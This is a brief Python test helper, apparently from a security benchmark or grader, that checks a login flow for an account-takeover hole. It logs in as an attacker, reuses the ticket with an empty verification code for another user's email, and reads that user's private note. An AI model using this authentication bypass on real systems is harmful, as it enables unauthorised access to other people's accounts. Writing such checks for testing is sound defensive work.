# fails: knows_when_it_fails -- "raised KeyError"
# Works where the hole is, and falls over where it is not.
def break_in(client):
    ticket = client.post("/login", json={"email": "mallory@evil.example", "password": "correct horse"}).json()["ticket"]
    session = client.post("/code", json={"ticket": ticket, "email": "ada@example.com", "code": ""}).json()["session"]
    return client.get("/account", headers={"Authorization": f"Bearer {session}"}).json()["note"]
